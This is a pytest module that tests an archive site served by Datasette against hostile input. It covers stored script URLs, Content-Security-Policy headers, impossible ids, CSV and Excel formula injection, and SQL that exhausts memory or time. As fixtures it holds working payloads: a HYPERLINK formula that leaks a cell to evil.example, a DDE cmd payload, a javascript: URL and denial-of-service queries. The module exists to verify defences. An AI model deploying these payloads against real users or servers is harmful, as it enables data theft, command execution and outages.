"""Hostile data and hostile queries against the archive site: scripts in stored URLs, a
Content-Security-Policy on every page, SQL that allocates or loops inside one step, CSV and
Excel formula injection, impossible ids. Datasette runs in-process as ``xxgk serve``
configures it, and as its own process where memory and threads are measured."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
import subprocess
import threading
import time
import urllib.error
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from datasette.app import Datasette
from sqlite_utils import Database

from parsers.records import Attachment, Document
from serve.launch import datasette_args, datasette_env
from store import Archive, ArchiveConfig
from tests.conftest import ROOT
from tests.test_browser import free_port
from tests.test_document_page import open_datasette
from tests.test_serve import RECORDS, SEEN_AT, SITE_ID, build_archive

EVIL_URL = "JavaScript:alert(document.domain)//x.pdf"
EVIL_DOC = "https://yjj.km.gov.cn/c/2024-01-01/9999999.shtml"
BIG_TEXT = "预" * 3_000_000  # 9 MB of UTF-8: a long value a join can repeat
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
NUMBERS = ["-2.5", "+3", "1e5", "-0.75"]  # text that Excel reads as numbers: left as it is


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile-serve") / "archive.db"
    build_archive(path, RECORDS[:5])
    archive = Archive.at(path)
    db = archive.db
    # a document archived before the parsers checked links: its attachment URL is a script
    doc = Document(
        url=EVIL_DOC,
        title="脚本附件",
        body_text="正文",
        attachments=[Attachment(url=EVIL_URL, name="通知附件", ext="pdf")],
    )
    archive.save_document(SITE_ID, doc, None, SEEN_AT)
    Database(db.conn).table("injection").insert_all(
        [{"id": i, "cell": v} for i, v in enumerate(INJECTIONS + NUMBERS)]
        + [{"id": 100, "cell": -2.5}, {"id": 101, "cell": 3}, {"id": 102, "cell": "2022-07-08"}],
        pk="id",
    )
    Database(db.conn).table("big").insert({"id": 1, "t": BIG_TEXT}, pk="id")
    db.close()
    return path


@pytest.fixture(scope="module")
def ds(archive: Path) -> Datasette:
    return open_datasette(archive)


def get(ds: Datasette, path: str, **params: str) -> httpx.Response:
    import asyncio

    response: httpx.Response = asyncio.run(ds.client.get(path, params=params or None))
    return response


def evil_id(archive: Path) -> int:
    row = Database(archive).execute("select id from documents where url = ?", [EVIL_DOC])
    return int(row.fetchone()[0])


# -- 1. stored script URLs, and a Content-Security-Policy on every page -------------------------


def test_a_stored_script_url_is_never_a_link(ds: Datasette, archive: Path) -> None:
    response = get(ds, f"/archive/documents/{evil_id(archive)}")
    assert response.status_code == 200
    html = response.text
    assert "通知附件" in html and "JavaScript:alert(document.domain)//x.pdf" in html  # as text
    assert not re.search(r"href\s*=\s*[\"']?\s*javascript:", html, re.I), "a script link"
    for href in re.findall(r"href=\"([^\"]*)\"", html):
        assert href.startswith(("/", "#", "?", "http://", "https://")), href


PAGES = [
    "/",
    "/archive",
    "/archive/documents",
    "/archive/documents?_search=应急",
    "/archive/documents/1",
    "/archive/search?q=应急",
    "/archive?sql=select+1",
    "/archive/documents.json",
    "/archive/documents.csv",
    "/-/charts",
    "/-/charts/documents-per-month",
    "/-/versions",
    "/archive/no_such_table",
]


@pytest.mark.parametrize("path", PAGES)
def test_every_page_has_a_content_security_policy(ds: Datasette, path: str) -> None:
    response = get(ds, path)
    csp = response.headers.get("content-security-policy", "")
    assert "default-src 'self'" in csp and "object-src 'none'" in csp, (path, csp)
    assert "'unsafe-inline'" not in csp.split("script-src", 1)[1].split(";", 1)[0]
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"


def script_hash(body: str) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(body.encode()).digest()).decode() + "'"


@pytest.mark.parametrize("path", [p for p in PAGES if "." not in p.rsplit("/", 1)[-1]])
def test_the_pages_own_scripts_are_allowed(ds: Datasette, path: str) -> None:
    """What a browser enforces: every inline script of the page is allowed by hash, every
    script file comes from this site, and no element carries an event handler."""
    response = get(ds, path)
    html = response.text
    csp = response.headers["content-security-policy"]
    for attributes, body in re.findall(r"<script([^>]*)>(.*?)</script>", html, re.S):
        if "src=" in attributes:
            src = re.search(r"src=\"([^\"]+)\"", attributes)
            assert src and src[1].startswith("/"), attributes
        else:
            assert script_hash(body) in csp, (path, body[:80])
    assert not re.search(r"<[^>]+\son[a-z]+\s*=", html), path


def test_archived_copies_keep_their_stricter_policy(ds: Datasette, archive: Path) -> None:
    response = get(ds, "/-/archived/1")
    assert response.status_code == 404  # no capture in this archive: the 404 has the policy
    assert "default-src 'self'" in response.headers["content-security-policy"]


@pytest.mark.parametrize(
    "fetch_id", ["99999999999999999999", "9" * 400, "²", "١", "-1", "1e3", "0x10", " 1"]
)
def test_impossible_archived_ids_are_404(ds: Datasette, fetch_id: str) -> None:
    response = get(ds, "/-/archived/" + fetch_id)
    assert response.status_code == 404, (fetch_id, response.text[:200])


# -- 4. formula injection in the Excel-oriented exports -----------------------------------------


def bom_rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:300]
    assert response.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def check_neutralized(cells: list[str]) -> None:
    for value in INJECTIONS:
        assert "'" + value in cells, (value, cells)
        assert value not in cells
    for value in [*NUMBERS, "-2.5", "3", "2022-07-08"]:
        assert value in cells, value


@pytest.mark.parametrize(
    "path",
    [
        "/archive/injection.csvbom",
        "/archive/injection.csvbom?_stream=on",
        "/archive.csvbom?sql=select+cell+from+injection",
    ],
)
def test_csvbom_neutralizes_formulas(ds: Datasette, path: str) -> None:
    rows = bom_rows(get(ds, path))
    cells = [row[-1] for row in rows[1:]]
    check_neutralized(cells)


def test_csvbom_neutralizes_column_names_and_canned_queries(ds: Datasette) -> None:
    rows = bom_rows(get(ds, "/archive.csvbom", sql='select 1 as "=2+2", \'@x\' as "-y"'))
    assert rows == [["'=2+2", "'-y"], ["1", "'@x"]]
    rows = bom_rows(get(ds, "/archive/search.csvbom", q="应急"))
    assert rows[0][:2] == ["id", "title"] and len(rows) > 1


def test_plain_csv_stays_the_exact_data(ds: Datasette) -> None:
    response = get(ds, "/archive/injection.csv", _size="max")
    cells = [r[-1] for r in csv.reader(io.StringIO(response.text, newline=""))][1:]
    assert set(INJECTIONS) <= set(cells)


def test_formula_guard_is_the_same_whatever_the_chunks() -> None:
    from serve.plugins.exports import FormulaGuard

    rows = [["id", "cell"], *[[str(i), v] for i, v in enumerate([*INJECTIONS, 'a "q"\r\n b'])]]
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    data = out.getvalue().encode()
    whole = FormulaGuard()
    expected = whole.feed(data) + whole.close()
    for cut in range(len(data) + 1):
        for step in (1, 7):
            guard = FormulaGuard()
            pieces = [data[:cut]] + [data[i : i + step] for i in range(cut, len(data), step)]
            assert b"".join(guard.feed(p) for p in pieces) + guard.close() == expected
    parsed = list(csv.reader(io.StringIO(expected.decode(), newline="")))
    assert [r[1] for r in parsed[1:]] == ["'" + v for v in INJECTIONS] + ['a "q"\r\n b']


def test_xlsx_writes_no_formula_anywhere(ds: Datasette) -> None:
    sql = 'select cell, cell as "=HYPERLINK(""x"")" from injection'
    response = get(ds, "/archive.xlsx", sql=sql)
    assert response.status_code == 200
    sheet = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(response.content))
    header = [c.value for c in next(book.active.iter_rows())]
    assert header == ["cell", '=HYPERLINK("x")']
    assert all(c.data_type != "f" for row in book.active.iter_rows() for c in row)


# -- 2. queries that allocate or loop inside one step, on a real server -------------------------


@pytest.fixture(scope="module")
def server(archive: Path) -> Iterator[dict[str, Any]]:
    """Datasette started exactly as ``xxgk serve`` starts it (arbitrary SQL allowed)."""
    port = free_port()
    log = archive.with_name("datasette.log")
    with log.open("wb") as out:
        proc = subprocess.Popen(
            datasette_args(ArchiveConfig.resolve(archive, env={}), "127.0.0.1", port), cwd=ROOT,
            stdout=out, stderr=subprocess.STDOUT,
            env=datasette_env(ArchiveConfig.resolve(archive, env={})),
        )  # fmt: skip
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            assert proc.poll() is None, log.read_text("utf-8", "replace")
            try:
                urllib.request.urlopen(f"{base}/-/versions.json", timeout=5).read()
                break
            except OSError:
                assert time.monotonic() < deadline, "datasette did not start"
                time.sleep(0.2)
        yield {"base": base, "pid": proc.pid}
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def query(base: str, sql: str, timeout: float = 60) -> tuple[int, str, float]:
    url = f"{base}/archive.json?" + urllib.parse.urlencode({"sql": sql, "_shape": "array"})
    start = time.monotonic()
    try:
        with urllib.request.urlopen(url, timeout=timeout) as response:
            status, body = response.status, response.read(200_000_000).decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        status, body = exc.code, exc.read().decode("utf-8", "replace")
    return status, body, time.monotonic() - start


def peak_rss_mb(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(re.search(r"VmHWM:\s+(\d+) kB", status)[1]) / 1024  # type: ignore[index]


# refused: a value over 16 MiB, a printf width over 100,000, rows over 64 M characters, 3 s
REFUSED = [
    "select randomblob(1000000000)",
    "select zeroblob(1000000000)",
    "select printf('%.*c', 999999999, 'x')",
    "select length(printf('%.*c', '999999999', 'x'))",
    "select b.t from big b, documents d, documents e",  # a long value 36 times: too large
    "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c",
]
# answered, and fast: instr and replace no longer compare at every position (minutes before)
LINEAR = [
    "select instr(t, substr(t, 1, 1000000) || 'x') from big",
    "select length(replace(t, substr(t, 1, 1000000) || 'x', '')) from big",
]
HEAVY = REFUSED + LINEAR


@pytest.mark.parametrize("sql", HEAVY)
def test_heavy_queries_end_fast_with_little_memory(server: dict[str, Any], sql: str) -> None:
    status, body, seconds = query(server["base"], sql)
    assert (status >= 400) is (sql in REFUSED), body[:300]
    assert seconds < 20, (sql, seconds)  # the limit is 3 s; minutes without it (margin: load)
    assert peak_rss_mb(server["pid"]) < 600
    assert query(server["base"], "select count(*) as n from documents")[0] == 200


def test_heavy_queries_side_by_side_leave_the_server_answering(server: dict[str, Any]) -> None:
    results: list[tuple[int, str, float]] = []
    threads = [
        threading.Thread(target=lambda s=s: results.append(query(server["base"], s)))
        for s in HEAVY * 2
    ]
    for t in threads:
        t.start()
    time.sleep(0.5)
    status, body, seconds = query(server["base"], "select title from documents limit 1")
    for t in threads:
        t.join(60)
    assert status == 200 and json.loads(body)
    assert seconds < 15
    assert len(results) == len(HEAVY) * 2
    assert sorted(r[0] >= 400 for r in results) == sorted(s in REFUSED for s in HEAVY * 2)
    assert peak_rss_mb(server["pid"]) < 600


def test_a_normal_request_still_answers(server: dict[str, Any]) -> None:
    status, body, _ = query(
        server["base"], "select printf('%.2f', 3.14159) as p, instr('应急管理', '管理') as i"
    )
    assert status == 200 and json.loads(body) == [{"p": "3.14", "i": 3}]
    with urllib.request.urlopen(f"{server['base']}/archive/documents/{1}", timeout=30) as r:
        assert r.status == 200
